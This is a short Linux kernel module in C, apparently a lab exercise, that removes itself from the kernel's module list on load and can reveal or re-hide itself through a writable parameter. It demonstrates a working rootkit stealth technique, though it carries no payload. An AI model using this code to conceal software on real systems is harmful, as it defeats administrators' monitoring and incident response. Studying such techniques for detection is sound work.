/* Hides itself from the list of modules, and comes back. */
#include <linux/module.h>
#include <linux/list.h>
static struct list_head *prev;
static int hide = 1;
static int set_hide(const char *val, const struct kernel_param *kp)
{
	int old = hide, r = param_set_int(val, kp);
	if (r) return r;
	if (hide && !old) { prev = THIS_MODULE->list.prev; list_del(&THIS_MODULE->list); pr_info("hidden\n"); }
	if (!hide && old) { list_add(&THIS_MODULE->list, prev); pr_info("shown\n"); }
	return 0;
}
static const struct kernel_param_ops ops = { .set = set_hide, .get = param_get_int };
module_param_cb(hide, &ops, &hide, 0644);
static int __init c03_init(void)
{
	prev = THIS_MODULE->list.prev;
	list_del(&THIS_MODULE->list);
	pr_info("hidden %s refs %d\n", THIS_MODULE->name, module_refcount(THIS_MODULE));
	return 0;
}
static void __exit c03_exit(void) { pr_info("bye\n"); }
module_init(c03_init); module_exit(c03_exit);
MODULE_LICENSE("GPL");
